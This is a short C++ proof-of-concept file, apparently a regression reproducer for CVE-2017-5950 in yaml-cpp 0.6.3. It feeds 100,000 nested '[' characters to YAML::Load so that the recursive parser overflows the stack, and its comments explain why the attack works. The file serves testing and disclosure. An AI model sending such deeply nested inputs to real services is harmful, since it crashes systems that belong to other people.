// SPDX-License-Identifier: MIT
// Loads a document of 100,000 nested flow sequences ("[[[[..."), as an attacker would send it:
// yaml-cpp 0.6.3 has no depth limit, and each level costs a round of the recursive descent
// (SingleDocParser::HandleNode -> HandleSequence -> HandleFlowSequence -> HandleNode, with a
// compact map in between), so the parser overflows the stack long before it reaches the end of
// the input (CVE-2017-5950, fixed in 0.7.0 by a depth guard).
#include <yaml-cpp/yaml.h>

#include <cstdio>
#include <string>

int main() {
  constexpr int kDepth = 100000;
  const std::string yaml(kDepth, '[');  // unclosed: the parser recurses before it finds out
  try {
    const YAML::Node node = YAML::Load(yaml);
    std::printf("loaded: %d\n", static_cast<int>(node.Type()));
  } catch (const YAML::Exception& error) {
    std::printf("rejected: %s\n", error.what());
  }
  return 0;
}
